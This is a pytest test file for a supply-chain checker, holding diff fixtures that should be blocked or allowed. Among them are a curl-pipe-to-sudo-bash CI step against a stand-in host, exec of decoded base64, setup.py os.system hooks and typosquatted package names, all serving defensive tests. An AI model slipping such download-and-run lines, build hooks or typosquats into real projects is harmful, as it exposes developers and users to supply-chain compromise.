"""Other code gets installed, built or run; beside it what an asked-for change looks like."""

import pytest
from tree_evidence import permit, tree_evidence

from gatekeeper.checks.supply_chain import check

H1, H2 = "sha256:" + "1" * 64, "sha256:" + "2" * 64
LOCK = f"iniconfig==2.1.0 \\\n    --hash={H1}\npytest==9.2.0 --hash={H2}\n"
TOML = '[project]\nname = "shop"\ndependencies = ["requests>=2"]\n\n[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "setuptools.build_meta"\n'
CI = "on: push\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@" + "a" * 40 + "\n      - run: pytest\n"
REPO = {"requirements-dev.txt": LOCK, "pyproject.toml": TOML, ".github/workflows/ci.yml": CI, "package.json": '{"name": "x", "dependencies": {"react": "1.0.0"}}', "Dockerfile": "FROM python@sha256:" + "3" * 64 + "\n"}  # fmt: skip

CHEATS = {
    "exec of base64": ("CODE_CARRIED_AS_DATA", {"src/a.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\n"}),
    "eval of compiled hex": ("CODE_CARRIED_AS_DATA", {"src/a.py": "eval(compile(bytes.fromhex('31').decode(), 'a', 'eval'))\n"}),
    "alias and variable": (
        "CODE_CARRIED_AS_DATA",
        {"src/a.py": "import zlib, base64 as b\nrun = exec\ntext = zlib.decompress(b.b85decode('x'))\nrun(text)\n"},
    ),
    "marshalled": ("CODE_CARRIED_AS_DATA", {"src/a.py": "import marshal, types\nf = types.FunctionType(marshal.loads(b'x'), {})\n"}),
    "added": ("DEPENDENCY_ADDED", {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "fast-cells"')}),
    "added to the build": ("DEPENDENCY_ADDED", {"pyproject.toml": TOML.replace('"setuptools>=68"', '"setuptools>=68", "build-magic"')}),
    "added in a new file": ("DEPENDENCY_ADDED", {"requirements/extra.txt": "cellwidths\n"}),
    "npm": ("DEPENDENCY_ADDED", {"package.json": '{"dependencies": {"react": "1.0.0", "reakt": "1"}}'}),
    "url": ("DEPENDENCY_DIRECT_SOURCE", {"pyproject.toml": TOML.replace("requests>=2", "requests @ https://e.example/r.whl")}),
    "vcs line": ("DEPENDENCY_DIRECT_SOURCE", {"requirements-dev.txt": LOCK + "git+https://e.example/r.git@main#egg=pytest\n"}),
    "editable": ("DEPENDENCY_DIRECT_SOURCE", {"requirements-dev.txt": LOCK + "-e ./vendor/thing\n"}),
    "npm git": ("DEPENDENCY_DIRECT_SOURCE", {"package.json": '{"dependencies": {"react": "github:x/react"}}'}),
    "index": ("DEPENDENCY_INDEX_ADDED", {"requirements-dev.txt": "--index-url=https://e.example/simple\n" + LOCK}),
    "find links": ("DEPENDENCY_INDEX_ADDED", {"requirements-dev.txt": "-f ./wheels\n" + LOCK}),
    "hashes": ("DEPENDENCY_PINS_DROPPED", {"requirements-dev.txt": "iniconfig==2.1.0\npytest==9.2.0\n"}),
    "one hash": ("DEPENDENCY_PINS_DROPPED", {"requirements-dev.txt": f"iniconfig==2.1.0 --hash={H1}\npytest==9.2.0\n"}),
    "hash swapped": ("DEPENDENCY_HASH_CHANGED", {"requirements-dev.txt": LOCK.replace(H2, "sha256:" + "9" * 64)}),
    "backend": ("BUILD_BACKEND_CHANGED", {"pyproject.toml": TOML.replace('"setuptools.build_meta"', '"make"\nbackend-path = ["."]')}),
    "setup.py": ("BUILD_HOOK_ADDED", {"setup.py": "import os\nfrom setuptools import setup\nos.system('id')\nsetup()\n"}),
    "pth": ("START_HOOK_ADDED", {"src/a.pth": "import os\n"}),
    "postinstall": ("INSTALL_SCRIPT_ADDED", {"package.json": '{"scripts": {"postinstall": "node x.js"}, "dependencies": {"react": "1.0.0"}}'}),
    "action": ("CI_ACTION_UNPINNED", {".github/workflows/ci.yml": CI.replace("@" + "a" * 40, "@v4")}),
    "pipe": ("DOWNLOAD_EXECUTED", {".github/workflows/ci.yml": CI + "      - run: curl -sL https://e.example/i | sudo bash\n"}),
    "image": ("IMAGE_UNPINNED", {"Dockerfile": "FROM python:latest\n"}),
}  # fmt: skip


@pytest.mark.parametrize("name", CHEATS)
def test_a_change_of_what_gets_executed_is_stopped(name):
    code, after = CHEATS[name]
    found = check(tree_evidence(REPO, after))
    assert [(f.code, f.category, f.effect.value) for f in found] == [(code, "supply_chain", "blocks")]


HONEST = {
    "decoded data is no code": {"src/a.py": "import base64, json\nICON = base64.b64decode('aWNvbg==')\nDATA = json.loads(base64.b64decode('e30='))\n"},
    "eval of a literal": {"src/a.py": "import ast\nx = ast.literal_eval('[1]')\ny = eval('1 + 1')\n"},
    "version moved with its hash": {"requirements-dev.txt": LOCK.replace("9.2.0", "9.3.0").replace(H2, "sha256:" + "4" * 64)},
    "dependency dropped": {"pyproject.toml": TOML.replace('"requests>=2"', "")},
    "comment": {"requirements-dev.txt": "# made by a tool\n" + LOCK},
    "known elsewhere": {"pyproject.toml": TOML.replace("requests>=2", "requests>=3")},
    "editable self": {"requirements.txt": "-e .[dev]\n"},
    "pin moved": {".github/workflows/ci.yml": CI.replace("a" * 40, "b" * 40)},
    "description": {"pyproject.toml": TOML.replace('name = "shop"', 'name = "shop"\ndescription = "See https://e.example"')},
    "digest moved": {"Dockerfile": "FROM python@sha256:" + "5" * 64 + "\n"},
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_look_alike_passes(name):
    assert check(tree_evidence(REPO, HONEST[name])) == ()


def test_a_permit_covers_exactly_the_named_dependency():
    after = {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "Typing_Extensions>=4"')}
    assert check(tree_evidence(REPO, after, permits=[permit("add_dependency", names=["typing-extensions"])])) == ()
    near = {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "typing-extension"')}
    (found,) = check(tree_evidence(REPO, near, permits=[permit("add_dependency", names=["typing-extensions"])]))
    assert found.code == "DEPENDENCY_ADDED"
    assert "looks like typing-extensions" in found.message


@pytest.mark.parametrize(
    ("given", "codes"),
    [
        ({"names": ["six"], "paths": ["requirements-dev.txt"]}, ["DEPENDENCY_INDEX_ADDED"]),
        ({"names": ["https://e.example/simple"]}, []),
        ({"paths": ["requirements-dev.txt"]}, []),
        ({"paths": ["other.txt"]}, ["DEPENDENCY_INDEX_ADDED"]),
    ],
)
def test_a_permit_for_a_package_is_none_for_another_index(given, codes):
    after = {"requirements-dev.txt": "--extra-index-url https://e.example/simple\n" + LOCK}
    found = check(tree_evidence(REPO, after, permits=[permit("add_dependency", **given)]))
    assert [f.code for f in found] == codes


TOOLS = TOML + '\n[dependency-groups]\ndev = ["pytest"]\n'


@pytest.mark.parametrize(
    ("after", "effect"),
    [
        (TOOLS.replace('dev = ["pytest"]', 'dev = ["pytest", "ruff"]'), "advises"),  # a tool that everybody knows
        (TOOLS.replace('["setuptools>=68"]', '["hatchling"]'), "asks"),
        (TOOLS.replace('dev = ["pytest"]', 'dev = ["pytest", "rufff"]'), "blocks"),  # nobody knows it
        (TOOLS.replace('dev = ["pytest"]', 'dev = ["pytest", "ruff", "fast-cells"]'), "blocks"),
        (TOOLS.replace('"requests>=2"', '"requests>=2", "ruff"'), "blocks"),  # users would install it
    ],
)
def test_a_known_tool_of_development_is_told(after, effect):
    found = check(tree_evidence({**REPO, "pyproject.toml": TOOLS}, {"pyproject.toml": after}))
    assert [(f.code, f.effect.value) for f in found if f.code == "DEPENDENCY_ADDED"] == [("DEPENDENCY_ADDED", effect)]


def test_a_ticket_that_names_what_may_be_added_names_all_of_it():
    after = {"pyproject.toml": TOOLS.replace('dev = ["pytest"]', 'dev = ["pytest", "ruff", "types-pyyaml"]')}
    named = [permit("add_dependency", names=["ruff"])]
    (found,) = check(tree_evidence({**REPO, "pyproject.toml": TOOLS}, after, permits=named))
    assert (found.code, found.effect.value) == ("DEPENDENCY_ADDED", "blocks")


def test_what_builds_a_project_without_a_build_system_is_known():
    written = '[build-system]\nrequires = ["setuptools>=42", "wheel"]\nbuild-backend = "setuptools.build_meta"\n'
    before = {"setup.py": "from setuptools import setup\nsetup()\n"}
    codes = [f.code for f in check(tree_evidence(before, {"pyproject.toml": written}))]
    assert "DEPENDENCY_ADDED" not in codes
    codes = [f.code for f in check(tree_evidence(before, {"pyproject.toml": written.replace("wheel", "wheeel")}))]
    assert "DEPENDENCY_ADDED" in codes


SETUP = (
    "import os\nfrom codecs import open\nfrom setuptools import setup\n\nabout = {}\n"
    "with open(os.path.join('shop', '__version__.py'), 'r', 'utf-8') as f:\n    exec(f.read(), about)\n\nsetup(cmdclass={})\n"
)


@pytest.mark.parametrize(
    ("setup", "version", "codes"),
    [
        (SETUP, "__version__ = '1'\n", []),
        (SETUP, "import os\n__version__ = os.system('id')\n", ["BUILD_HOOK_ADDED"]),
        (SETUP.replace("'shop', '__version__.py'", "'shop', 'x'"), "__version__ = '1'\n", ["BUILD_HOOK_ADDED"]),
        (SETUP.replace("f.read()", "g.read()"), "__version__ = '1'\n", ["BUILD_HOOK_ADDED"]),
        (SETUP.replace("f.read()", "f.read() + x"), "__version__ = '1'\n", ["BUILD_HOOK_ADDED"]),
        (SETUP.replace("cmdclass={}", "cmdclass={'install': Mine}"), "__version__ = '1'\n", ["BUILD_HOOK_ADDED"]),
    ],
)
def test_a_version_that_is_read_by_running_its_file_is_no_hook(setup, version, codes):
    repo = {**REPO, "setup.py": "from setuptools import setup\nsetup()\n"}
    found = check(tree_evidence(repo, {"setup.py": setup, "shop/__version__.py": version}))
    assert [f.code for f in found] == codes


COMPILED = "mypy==1.11\nmypy-extensions==1.0  # via mypy\nclick==8.1  # via pip-tools\n"


@pytest.mark.parametrize(
    ("path", "listed", "effect"),
    [
        ("requirements/dev.txt", COMPILED, "advises"),
        ("requirements/all.lock", COMPILED, "asks"),
        ("requirements/dev.txt", COMPILED + "fast-cells==1.0  # via mypy\n", "blocks"),
        ("requirements/dev.txt", COMPILED.replace("click==8.1", "click"), "blocks"),
        ("requirements.txt", COMPILED, "blocks"),
        ("requirements/dev.txt", COMPILED.replace("mypy-extensions", "mypy-extension"), "blocks"),
    ],
)
def test_what_known_tools_bring_along_is_told(path, listed, effect):
    found = check(tree_evidence({**REPO, path: "iniconfig==2.1.0\n"}, {path: "iniconfig==2.1.0\n" + listed}))
    assert [(f.code, f.effect.value) for f in found] == [("DEPENDENCY_ADDED", effect)]


@pytest.mark.parametrize(
    ("use", "seen"),
    [
        ("astral-sh/setup-uv@" + "b" * 40, []),
        ("astra1-sh/setup-uv@" + "b" * 40, [("CI_ACTION_FOREIGN", "asks")]),
        ("astral-sh/setup-uv@v6", [("CI_ACTION_UNPINNED", "blocks")]),
        ("acme/setup-uv@" + "b" * 40, [("CI_ACTION_FOREIGN", "asks")]),
    ],
)
def test_a_pinned_action_of_a_known_owner_is_nothing(use, seen):
    after = {".github/workflows/ci.yml": CI + f"      - uses: {use}\n"}
    assert [(f.code, f.effect.value) for f in check(tree_evidence(REPO, after))] == seen


@pytest.mark.parametrize(
    ("goal", "effect"),
    [
        ("Use text-unidecode where unidecode is missing.", "asks"),
        ("Use Text_Unidecode where unidecode is missing.", "asks"),
        ("Use unidecode.", "blocks"),
        ("Use text-unidecode2 or my-text-unidecode.", "blocks"),
    ],
)
def test_a_package_that_the_ticket_speaks_of_goes_to_a_person(goal, effect):
    after = {"pyproject.toml": TOML.replace('"requests>=2"', '"requests>=2", "text-unidecode"')}
    (found,) = check(tree_evidence(REPO, after, goal=goal))
    assert (found.code, found.effect.value) == ("DEPENDENCY_ADDED", effect)


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", "asks"),
        ("curl --proto '=https' -sSf https://sh.rustup.rs | sh", "asks"),
        ("curl -LsSf http://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl -LsSf https://astral.sh.example/uv/install.sh | sh", "blocks"),
        ("curl -LsSf https://astral.sh/uv/install.sh https://e.example/x | sh", "blocks"),
        ("curl -LsSf https://e.example/?https://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl -LsSf https://astral.sh/uv/install.sh | tee x | sh", "blocks"),
        ("curl https://e.example/x https://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl e.example/x https://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl -k https://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl -K other https://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl https://e.example/x && curl https://astral.sh/uv/install.sh | sh", "blocks"),
        ("curl -sSf https://astral.sh/uv/install.sh | sh -c 'curl e.example'", "blocks"),
        ("curl -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal && rustc -V", "asks"),
        ("wget -qO- https://astral.sh/uv/install.sh | sh", "asks"),
        ("curl -sSL https://install.python-poetry.org | python3 - --yes", "asks"),
    ],
)
def test_the_documented_way_to_a_known_tool_goes_to_a_person(line, effect):
    (found,) = check(tree_evidence(REPO, {"dev/setup.sh": f"#!/bin/sh\n{line}\n"}))
    assert (found.code, found.effect.value) == ("DOWNLOAD_EXECUTED", effect)


OWN = '[project]\nname = "cells"\n'


@pytest.mark.parametrize(
    ("before", "line", "codes"),
    [
        ({}, "cells @ git+https://e.example/cells", ["DEPENDENCY_DIRECT_SOURCE"]),
        ({}, "cells==1.0", ["DEPENDENCY_ADDED"]),
        ({}, "cells", ["DEPENDENCY_ADDED"]),
        ({"pyproject.toml": OWN}, "cells[dev] @ git+https://e.example/cells", ["DEPENDENCY_DIRECT_SOURCE"]),
        ({"pyproject.toml": OWN}, "cells[dev]", []),
        ({"pyproject.toml": OWN}, "-e .[dev]", []),
    ],
)
def test_only_the_name_that_the_target_gave_itself_is_its_own(before, line, codes):
    after = {"pyproject.toml": OWN + 'version = "1"\n', "requirements.txt": f"flask==3.0.0\n{line}\n"}
    found = check(tree_evidence({"requirements.txt": "flask==3.0.0\n", **before}, after))
    assert [(f.code, f.effect.value) for f in found] == [(c, "blocks") for c in codes]


def test_the_project_in_its_own_lock_needs_no_pin():
    def lock(*rows):
        return "".join(f'[[package]]\nname = "{n}"\nversion = "1"\nsource = {s}\n' for n, s in rows)

    flask = ("flask", '{ registry = "https://index.example/simple" }')
    before = {"pyproject.toml": OWN, "uv.lock": lock(flask)}
    beside = check(tree_evidence(before, {"uv.lock": lock(flask, ("cells", '{ editable = "." }'))}))
    elsewhere = check(tree_evidence(before, {"uv.lock": lock(flask, ("cells", '{ git = "https://e.example/c" }'))}))
    assert [[f.code for f in found] for found in (beside, elsewhere)] == [[], ["DEPENDENCY_DIRECT_SOURCE"]]


@pytest.mark.parametrize(
    ("path", "listed", "effect"),
    [
        ("services/docs/requirements.txt", "paramiko==1.7.0\n", "blocks"),
        ("services/ci/requirements.txt", COMPILED, "blocks"),
        ("src/types/requirements.txt", "psutil==5.0\n", "blocks"),
        ("style/requirements.txt", "paramiko==1.7.0\n", "blocks"),
        ("requirements.lock", "mypy==1.11\nurllib3==2.0\n", "blocks"),
        ("requirements/all.lock", "urllib3==2.0\n", "blocks"),
        ("services/docs/requirements.txt", "sphinx==8.0\n", "asks"),
        ("docs/requirements.txt", "sphinx==8.0\nurllib3==2.0\n", "advises"),
        ("services/shop/requirements-dev.txt", COMPILED, "advises"),
    ],
)
def test_a_folder_deeper_down_makes_no_list_one_for_developers(path, listed, effect):
    found = check(tree_evidence({**REPO, path: "iniconfig==2.1.0\n"}, {path: "iniconfig==2.1.0\n" + listed}))
    assert [(f.code, f.effect.value) for f in found] == [("DEPENDENCY_ADDED", effect)]


PLAIN = "from setuptools import setup\nsetup(name='x')\n"
HERE = "import os\nfrom setuptools import setup\n\nhere = os.path.abspath(os.path.dirname(__file__))\nabout = {}\n"
READS = (
    HERE
    + "with open(os.path.join(here, 'shop', 'about.py')) as f:\n    exec(f.read(), about)\nsetup(version=about['__version__'])\n"
)
ABOUT = {
    "setup.py": PLAIN,
    "shop/about.py": '"""About."""\n\n# Of the project.\n__version__ = "1"\n',
    "about.py": "__version__ = '1'\n",
}
BAD = {"shop/payload.txt": "import os\nos.system('id')\n", "payload.py": "import os\nos.system('id')\n"}


@pytest.mark.parametrize(
    ("setup", "stopped"),
    [
        (READS, False),
        (PLAIN + "exec(open('shop/about.py').read())\n", False),
        (PLAIN + "exec(open('./about.py', encoding='utf-8').read())\n", False),
        (PLAIN + "exec(open('shop/payload.txt' or 'shop/about.py').read())\n", True),
        (PLAIN + "exec(open('shop/payload.txt').read())\n", True),
        (PLAIN + "exec(open('/tmp/about.py').read())\n", True),
        (PLAIN + "exec(open('../about.py').read())\n", True),
        (PLAIN + "exec(open('lib/about.py').read())\n", True),
        (PLAIN + "with open('about.py') as f:\n    f = open('shop/payload.txt')\n    exec(f.read())\n", True),
        (PLAIN + "with open('about.py') as f:\n    f.seek(9)\n    exec(f.read())\n", True),
        (PLAIN + "with open('about.py') as f:\n    for line in f:\n        exec(f.read())\n", True),
        (PLAIN + "with open('about.py') as f:\n    f.read(9)\n    exec(f.read())\n", True),
        (PLAIN + "exec(open('about.py').read() + open('shop/payload.txt').read())\n", True),
        (PLAIN + "exec(open('about.py', encoding='utf-7').read())\n", True),
        (PLAIN + "open('about.py', 'w').write('import os')\nexec(open('about.py').read())\n", True),
        (PLAIN + "import shutil\nshutil.copy('payload.py', 'about.py')\nexec(open('about.py').read())\n", True),
        (PLAIN + "from payload import open\nexec(open('about.py').read())\n", True),
        (PLAIN + "def open(n):\n    return x\nexec(open('about.py').read())\n", True),
        (READS.replace("os.path.dirname(__file__)", "'/tmp'"), True),
        (READS.replace("about = {}", "here = '/tmp'"), True),
        (READS.replace("about = {}", "print = os.system\nprint('id')"), True),
        (READS.replace("about = {}", "about = {}\nfor setup in [os.system]:\n    setup('id')"), True),
        (READS.replace("about = {}", "os.path.join = print"), True),
        (READS.replace("about = {}", "globals()['open'] = print"), True),
        (PLAIN + "exec(open('about.py').read())\nexec(open('shop/payload.txt').read())\n", True),
    ],
)
def test_a_build_script_learns_constants_only_where_nothing_else_can_run(setup, stopped):
    found = check(tree_evidence(ABOUT, {"setup.py": setup, **BAD}))
    assert [(f.code, f.effect.value) for f in found] == ([("BUILD_HOOK_ADDED", "blocks")] if stopped else [])


@pytest.mark.parametrize(
    "other",
    [
        {"shop/about.py": "import os\n__version__ = os.sep\n"},
        {"shop/about.py": "__version__ = '1'\nsetup = 1\n"},
        {"shop/about.py": "__version__: print('a') = '1'\n"},
        {"shop/about.py": None},
        {"os.py": "open = 1\n"},
        {"setuptools/__init__.py": "setup = print\n"},
    ],
)
def test_what_a_build_script_runs_must_lie_in_the_tree_and_hold_constants_alone(other):
    script = PLAIN + "import os\nexec(open(os.path.join('shop', 'about.py')).read())\n"
    assert check(tree_evidence(ABOUT, {"setup.py": script})) == ()
    found = check(tree_evidence(ABOUT, {"setup.py": script, **other}))
    assert [(f.code, f.effect.value) for f in found] == [("BUILD_HOOK_ADDED", "blocks")]


def test_another_file_than_before_is_run_and_another_line_beside_it_is_not():
    before = {**ABOUT, "setup.py": READS}
    beside = check(tree_evidence(before, {"setup.py": READS + "print(sorted(about, key=lambda n: -len(n)))\n"}))
    other = check(tree_evidence(before, {"setup.py": READS.replace("about.py", "payload.txt"), **BAD}))
    assert [[f.code for f in found] for found in (beside, other)] == [[], ["BUILD_HOOK_ADDED"]]


RUNS = PLAIN + "exec(open('shop/about.py').read())\n"
LOADED = PLAIN + "exec(compile(open('shop/about.py').read(), 'a', 'exec'))\n"
OLD_CODE = "import os\nVERSION = os.environ.get('V', '1')\n"


@pytest.mark.parametrize(
    ("setup", "before", "after", "effect"),
    [
        (RUNS, "__version__ = '1'\n", "__version__ = '2'\n", None),
        (RUNS, "__version__ = '1'\n", "__version__: str = '2'\n", None),
        (RUNS, "__version__ = '1'\n", "V = (1, 2)\n__version__ = '.'.join(map(str, V))\n", None),
        (RUNS, "__version__ = '1'\n", "__author__ = 'Jos\u00e9'\n__version__ = '1'\n", None),
        (RUNS, OLD_CODE, OLD_CODE.replace("'1'", "'2'"), None),
        (RUNS, "__version__ = '1'\n", "import os\n__version__ = os.sep\n", "blocks"),
        (RUNS, "__version__ = '1'\n", "__version__ = open('a').read()\n", "blocks"),
        (RUNS, "__version__ = '1'\n", "map = eval\n__version__ = map('1')\n", "blocks"),
        (RUNS, "__version__ = '1'\n", "__version__ = ''.__class__.__mro__\n", "blocks"),
        (RUNS, "__version__ = '1'\n", "__version__: print('a') = '1'\n", "blocks"),
        (RUNS, "__version__ = '1'\n", "def f():\n    return 1\n", "blocks"),
        (RUNS, "__version__ = '1'\n", "__version__ = '1\n", "blocks"),
        (RUNS, OLD_CODE, OLD_CODE + "os.system('id')\n", "blocks"),
        (HERE + RUNS + "os.system('make')\n", "__version__ = '1'\n", "import os\nos.system('id')\n", "blocks"),
        (LOADED, "__version__ = '1'\n", "import os\nos.system('id')\n", "asks"),
        (LOADED, "__version__ = '1'\n", "__version__ = '2'\n", None),
        (PLAIN + "import runpy\nrunpy.run_path('shop/about.py')\n", "x = 1\n", "import os\n", "asks"),
        (PLAIN + "print(open('shop/about.py').read())\n", "x = 1\n", "import os\n", None),
    ],
)
@pytest.mark.parametrize("beside", ["", "print('one line more')\n"])
def test_what_an_unchanged_build_script_runs_may_not_become_code(setup, before, after, effect, beside):
    repo = {"setup.py": setup, "shop/about.py": before, "shop/other.py": "x = 1\n"}
    change = {"shop/about.py": after, "shop/other.py": "import os\n", "setup.py": setup + beside}
    found = check(tree_evidence(repo, change))
    assert [(f.code, f.effect.value) for f in found] == ([("BUILD_HOOK_ADDED", effect)] if effect else [])


BY_HAND = (
    READS.replace("import os\n", "import os\nimport sys\n")
    + "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\n"
)
CALLS = "import os\nimport sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('twine upload')\nsetup()\n"


@pytest.mark.parametrize(
    ("setup", "stopped"),
    [
        (BY_HAND, False),
        (BY_HAND.replace("    os.system", "    rmtree('dist')\n    os.system").replace("import os\n", "import os\nfrom shutil import rmtree\n"), False),
        (BY_HAND + "with open('shop/about.py') as f:\n    print(f.read())\n", False),
        (BY_HAND + "def late():\n    exec(open('shop/about.py').read(), about)\nlate()\n", False),
        (BY_HAND + "else:\n    os.system('cp payload.py shop/about.py')\n", True),
        (BY_HAND + "open('shop/about.py', 'w').write('import os')\n", True),
        (BY_HAND + "from shutil import copy\ncopy('payload.py', 'shop/about.py')\n", True),
        (BY_HAND.replace("about = {}", "about = {}\nos.system('cp payload.py shop/about.py')"), True),
        (BY_HAND.replace("about = {}", "about = {}\nimport payload"), True),
        (BY_HAND.replace("setup(version", "exec(open('shop/payload.txt').read())\nsetup(version"), True),
        (BY_HAND + "from payload import open\n", True),
        (BY_HAND + "def open(n):\n    return n\n", True),
        (BY_HAND.replace("'publish'", "'egg_info'"), True),
        (BY_HAND.replace("if sys", "sys.argv.append('publish')\nif sys"), True),
        (BY_HAND.replace("about = {}", "about = {}\nsys = about"), True),
        (BY_HAND.replace("setup(version", "vars(sys)['ar' + 'gv'] = ['publish']\nsetup(version"), True),
        (BY_HAND.replace("== 'publish'", "!= 'publish'"), True),
        (BY_HAND.replace("== 'publish'", "== 'publish' or True"), True),
    ],
)  # fmt: skip
def test_what_only_a_word_of_a_person_starts_is_no_part_of_a_build(setup, stopped):
    found = check(tree_evidence({**ABOUT, "setup.py": CALLS}, {"setup.py": setup, **BAD}))
    assert [(f.code, f.effect.value) for f in found] == ([("BUILD_HOOK_ADDED", "blocks")] if stopped else [])


@pytest.mark.parametrize(
    ("setup", "effect"),
    [
        (CALLS.replace("twine upload", "twine upload dist/*"), None),
        (CALLS + "print('built')\n", None),
        (CALLS.replace("upload", "upload dist/*") + "if sys.argv[-1] == 'build':\n    print('built')\n", None),
        (CALLS + "if sys.argv[-1] == 'build':\n    os.system('id')\n", "asks"),
        (CALLS + "os.system('id')\n", "asks"),
        (CALLS + "if sys.argv[-1] == 'build':\n    os.system('python setup.py sdist bdist_wheel')\n", None),
        (CALLS + "if sys.argv[-1] == 'build':\n    os.system('python setup.py sdist;id')\n", "asks"),
        (CALLS + "if sys.argv[-1] == 'build':\n    os.system('python setup.py upload')\n", "asks"),
        (CALLS + "if sys.argv[-1] == 'build':\n    os.system('python tools/setup.py build')\n", "asks"),
        (CALLS + "os.system('python setup.py')\n", "asks"),
        (CALLS + "os.system('python setup.py build', *more)\n", "asks"),
        (CALLS.replace("'publish'", "'egg_info'").replace("upload", "upload dist/*"), "asks"),
        (CALLS.replace("if sys", "sys.argv[-1] = 'publish'\nif sys").replace("upload", "upload dist/*"), "asks"),
        (CALLS.replace("if sys", "os.sys.argv.append('publish')\nif sys").replace("upload", "upload dist/*"), "asks"),
        (CALLS + "import subprocess\nsubprocess.run(['id'])\n", "blocks"),
    ],
)
def test_another_program_than_before_goes_to_a_person(setup, effect):
    found = check(tree_evidence({"setup.py": CALLS}, {"setup.py": setup}))
    assert [(f.code, f.effect.value) for f in found] == ([("BUILD_HOOK_ADDED", effect)] if effect else [])
